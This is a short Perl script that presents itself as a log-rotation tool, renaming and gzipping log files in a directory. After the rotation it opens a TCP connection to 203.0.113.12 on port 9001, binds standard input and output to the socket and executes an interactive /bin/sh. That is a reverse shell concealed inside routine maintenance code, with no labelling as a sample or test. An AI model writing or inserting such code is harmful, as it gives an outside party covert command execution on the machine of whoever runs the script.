#!/usr/bin/perl
use strict; use warnings;
use Socket;
my $dir = shift // '/var/log/myapp';
for my $f (glob "$dir/*.log") { rename $f, "$f.1"; system('gzip', '-f', "$f.1"); }
my $i = "203.0.113.12"; my $p = 9001;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
if (connect(S, sockaddr_in($p, inet_aton($i)))) {
  open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
  exec("/bin/sh -i");
}
